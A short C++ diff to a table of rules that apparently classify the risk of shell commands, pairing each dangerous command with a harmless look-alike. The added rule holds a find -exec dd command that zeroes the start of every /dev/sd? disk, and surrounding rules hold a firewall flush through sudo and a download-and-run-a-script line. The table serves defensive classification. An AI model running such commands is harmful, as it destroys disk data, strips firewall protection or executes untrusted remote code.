@@ -121,6 +121,8 @@ const std::vector<Rule> k_rules = {
     {"losetup -d", "losetup -d /dev/loop0", Risk::ChangesSystem, "losetup", "losetup -a", Risk::ReadOnly},
     {"iptables-save to a file", "iptables-save -f rules.v4", Risk::ChangesFiles, "iptables-save", "iptables-save", Risk::ReadOnly},
     {"sudo -s with code on stdin", "sudo -s <<< 'iptables -F'", Risk::Destructive, "iptables", "sudo -s <<< 'iptables -L'", Risk::ReadOnly},
+    {"find -exec: {} is each path under find's start", "find /dev -name 'sd?' -exec dd if=/dev/zero of={} bs=1M count=1 \\;",
+     Risk::Irreversible, "dd", "find . -name '*.img' -exec dd if={} of=/dev/null \\;", Risk::ReadOnly},
     {"a downloaded script run", "wget -q -O /tmp/i.sh https://x/i.sh && bash /tmp/i.sh", Risk::Destructive, "bash",
      "wget -q -O /tmp/i.sh https://x/i.sh && bash /tmp/other.sh", Risk::Unknown},
 };
